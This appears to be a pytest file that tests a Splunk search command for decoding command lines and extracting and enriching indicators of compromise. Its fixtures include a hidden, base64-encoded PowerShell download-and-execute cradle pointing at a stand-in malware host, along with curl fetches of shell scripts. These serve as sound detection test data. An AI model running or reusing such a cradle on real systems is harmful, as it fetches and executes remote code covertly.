"""The Splunk search command spoken to over chunked protocol v2, as splunkd does, and its app package."""

from __future__ import annotations

import base64
import configparser
import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("splunklib")

from huntbook import splunk_app

URL = "http://malware.example.net/stage2.ps1"
IP = "203.0.113.77"


def _encoded_command() -> str:
    script = f"IEX (New-Object Net.WebClient).DownloadString('{URL}'); Test-Connection {IP}"
    return "powershell.exe -nop -w hidden -enc " + base64.b64encode(script.encode("utf-16-le")).decode()


def _csv(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


class Splunkd:
    """The splunkd side of protocol v2: ``chunked 1.0,<metadata bytes>,<body bytes>\\n`` + JSON + CSV."""

    def __init__(self, argv: list[str], tmp: Path) -> None:
        self.tmp = tmp
        self.args = argv[1:]
        self.proc = subprocess.Popen(
            argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )

    def send(self, metadata: dict[str, Any], body: str = "") -> None:
        assert self.proc.stdin is not None
        meta, data = json.dumps(metadata).encode(), body.encode("utf-8")
        self.proc.stdin.write(f"chunked 1.0,{len(meta)},{len(data)}\n".encode() + meta + data)
        self.proc.stdin.flush()

    def receive(self) -> tuple[dict[str, Any], list[dict[str, str]]]:
        assert self.proc.stdout is not None
        header = self.proc.stdout.readline().decode()
        assert header.startswith("chunked 1.0,"), f"not a chunk: {header!r}"
        meta_len, body_len = (int(n) for n in header.strip().split(",")[1:])
        metadata = json.loads(self.proc.stdout.read(meta_len))
        body = self.proc.stdout.read(body_len).decode("utf-8")
        return metadata, list(csv.DictReader(io.StringIO(body))) if body else []

    def getinfo(self, args: list[str]) -> dict[str, Any]:
        search = "| huntbook " + " ".join(args)
        self.send(
            {
                "action": "getinfo",
                "preview": False,
                "streaming_command_will_restart": False,
                "searchinfo": {
                    "args": args,
                    "raw_args": args,
                    "dispatch_dir": str(self.tmp),
                    "earliest_time": "0",
                    "latest_time": "0",
                    "search": search,
                    "sid": "1700000000.1",
                    "splunk_version": "9.2.0",
                    "app": "search",
                    "owner": "admin",
                    "username": "admin",
                    "command": "huntbook",
                    "maxresultrows": 50000,
                    "session_key": "not-a-real-key",
                    "splunkd_uri": "https://127.0.0.1:1",
                },
            }
        )
        return self.receive()[0]

    def execute(
        self, rows: list[dict[str, str]], *, finished: bool
    ) -> tuple[dict[str, Any], list[dict[str, str]]]:
        self.send({"action": "execute", "finished": finished}, _csv(rows))
        return self.receive()

    def close(self) -> tuple[int, str]:
        assert self.proc.stdin is not None and self.proc.stdout is not None
        self.proc.stdin.close()
        rest = self.proc.stdout.read().decode("utf-8", "replace")
        code = self.proc.wait(timeout=60)
        assert self.proc.stderr is not None
        self.proc.stderr.close()
        self.proc.stdout.close()
        return code, rest


def _module_argv() -> list[str]:
    return [sys.executable, "-m", "huntbook.splunk_app"]  # no arguments: protocol v2


@pytest.fixture
def splunkd(tmp_path: Path) -> Any:
    started: list[Splunkd] = []

    def start(argv: list[str] | None = None) -> Splunkd:
        started.append(Splunkd(argv or _module_argv(), tmp_path))
        return started[-1]

    yield start
    for client in started:
        if client.proc.poll() is None:
            client.proc.kill()
            client.proc.wait()


def _messages(metadata: dict[str, Any]) -> list[list[str]]:
    return list((metadata.get("inspector") or {}).get("messages") or [])


def _multivalue(row: dict[str, str], name: str) -> list[str]:
    """A Splunk multivalue from its ``__mv_`` encoding (``$a$;$b$``)."""
    encoded = row.get(f"__mv_{name}") or ""
    if not encoded:
        return [row[name]] if row.get(name) else []
    return [item.replace("$$", "$") for item in encoded[1:-1].split("$;$")]


def _run_iocs(client: Splunkd) -> None:
    info = client.getinfo(["iocs", "field=CommandLine", "types=ipv4,url"])
    assert info["type"] == "streaming"
    assert not _messages(info)
    meta, rows = client.execute(
        [
            {"host": "ws1", "CommandLine": _encoded_command()},
            {"host": "ws2", "CommandLine": "notepad.exe report.txt"},
        ],
        finished=True,
    )
    assert meta["finished"] is True and not _messages(meta)
    assert [r["host"] for r in rows] == ["ws1", "ws2"]
    assert sorted(_multivalue(rows[0], "CommandLine_iocs")) == sorted([URL, IP])
    values, kinds = _multivalue(rows[0], "CommandLine_iocs"), _multivalue(rows[0], "CommandLine_ioc_types")
    types = dict(zip(values, kinds, strict=True))
    assert types == {URL: "url", IP: "ipv4"}
    assert rows[0]["CommandLine_ioc_count"] == "2"
    assert _multivalue(rows[1], "CommandLine_iocs") == [] and rows[1]["CommandLine_ioc_count"] == "0"
    code, rest = client.close()
    assert code == 0 and "Traceback" not in rest


def test_getinfo_and_execute_decode_and_extract_iocs(splunkd: Any) -> None:
    _run_iocs(splunkd())


def test_decode_adds_the_decoded_text(splunkd: Any) -> None:
    client = splunkd()
    info = client.getinfo(["decode", "field=CommandLine"])
    assert info["type"] == "streaming"
    _, rows = client.execute([{"CommandLine": _encoded_command()}], finished=True)
    decoded = rows[0]["CommandLine_decoded"]
    assert URL in decoded and IP in decoded and "\x00" not in decoded
    assert "CommandLine_iocs" not in rows[0]
    assert client.close()[0] == 0


def test_several_chunks_then_finished(splunkd: Any) -> None:
    client = splunkd()
    client.getinfo(["iocs", "field=cmd"])
    seen = []
    for n in range(3):
        meta, rows = client.execute(
            [{"id": str(n), "cmd": f"curl http://198.51.100.{n + 1}/x.sh"}], finished=n == 2
        )
        assert meta.get("finished", False) is (n == 2)
        seen.extend(_multivalue(rows[0], "cmd_iocs"))
    assert "http://198.51.100.1/x.sh" in seen and "198.51.100.3" in seen
    assert client.close()[0] == 0


def test_large_chunk(splunkd: Any) -> None:
    client = splunkd()
    client.getinfo(["iocs", "field=cmd", "types=ipv4", "decode=false"])
    rows = [
        {"n": str(i), "cmd": f"ping 10.{i // 65536}.{i // 256 % 256}.{i % 256} " + "x" * 200}
        for i in range(20_000)
    ]
    assert len(_csv(rows)) > 4_000_000
    meta, out = client.execute(rows, finished=True)
    assert meta["finished"] is True and len(out) == 20_000
    assert out[12345]["n"] == "12345" and _multivalue(out[12345], "cmd_iocs") == ["10.0.48.57"]
    assert client.close()[0] == 0


def test_enrich_with_a_local_feed(splunkd: Any, tmp_path: Path) -> None:
    feed = tmp_path / "bad_ips.csv"
    feed.write_text(f"indicator,severity,description\n{IP},high,test C2\n", encoding="utf-8")
    client = splunkd()
    client.getinfo(["enrich", "field=CommandLine", f"feeds={feed}"])
    _, rows = client.execute(
        [{"CommandLine": _encoded_command()}, {"CommandLine": "ping 192.0.2.1"}], finished=True
    )
    assert rows[0]["CommandLine_ti_severity"] == "high"
    assert _multivalue(rows[0], "CommandLine_ti_flagged") == [IP]
    assert rows[1]["CommandLine_ti_severity"] in ("", "info")
    assert client.close()[0] == 0


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["explode", "field=CommandLine"], "expected one action"),
        (["field=CommandLine"], "expected one action"),
        (["iocs", "field=Command Line"], "Illegal value: field"),
        (["iocs"], '"field" is required'),
        (["iocs", "field=cmd", "colour=red"], "Unrecognized option: colour"),
        (["iocs", "field=cmd", "types=ipv4,bogus"], "unknown IoC type"),
        (["iocs", "field=cmd", "feeds=/x"], "feeds is an option of enrich"),
        (["enrich", "field=cmd", "providers=virustotal"], "online provider"),
    ],
)
def test_bad_arguments_are_error_messages(splunkd: Any, args: list[str], expected: str) -> None:
    client = splunkd()
    info = client.getinfo(args)
    errors = [text for level, text in _messages(info) if level == "ERROR"]
    assert any(expected in text for text in errors), errors
    code, rest = client.close()
    assert code != 0 and "Traceback" not in rest


def test_missing_field_is_an_error_message(splunkd: Any) -> None:
    client = splunkd()
    client.getinfo(["iocs", "field=CommandLine"])
    meta, rows = client.execute([{"process": "cmd.exe", "user": "bob"}], finished=False)
    errors = [text for level, text in _messages(meta) if level == "ERROR"]
    assert any("no field 'CommandLine'" in t and "process" in t for t in errors), errors
    assert meta["finished"] is True and rows == []
    code, rest = client.close()
    assert code != 0 and "Traceback" not in rest


def test_package_writes_an_app_whose_launcher_speaks_the_protocol(splunkd: Any, tmp_path: Path) -> None:
    app = splunk_app.package(tmp_path / "apps", python=sys.executable, tar=True)
    assert app == tmp_path / "apps" / "huntbook"
    commands = configparser.ConfigParser(interpolation=None)
    commands.read(app / "default/commands.conf")
    assert commands["huntbook"]["chunked"] == "true"
    assert commands["huntbook"]["python.version"] == "python3"
    assert (app / "bin" / commands["huntbook"]["filename"]).is_file()
    conf = configparser.ConfigParser(interpolation=None)
    conf.read(app / "default/app.conf")
    assert conf["package"]["id"] == "huntbook" and conf["launcher"]["version"]
    for name in ("default/searchbnf.conf", "metadata/default.meta", "README.txt"):
        assert (app / name).is_file()
    assert (app.parent / "huntbook.spl").stat().st_size > 0
    launcher = app / "bin/huntbook_command.py"
    _run_iocs(splunkd([sys.executable, str(launcher)]))


def test_package_refuses_a_relative_python(tmp_path: Path) -> None:
    from huntbook.errors import ParameterError

    with pytest.raises(ParameterError, match="absolute"):
        splunk_app.package(tmp_path, python="python3")


def test_cli_splunk_package(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from huntbook.cli import app

    result = CliRunner().invoke(
        app, ["splunk", "package", "--out", str(tmp_path), "--python", "/opt/hb/python"]
    )
    assert result.exit_code == 0, result.output
    launcher = (tmp_path / "huntbook/bin/huntbook_command.py").read_text(encoding="utf-8")
    assert "PYTHON = '/opt/hb/python'" in launcher and "huntbook.splunk_app" in launcher
    assert not (tmp_path / "huntbook.spl").exists()
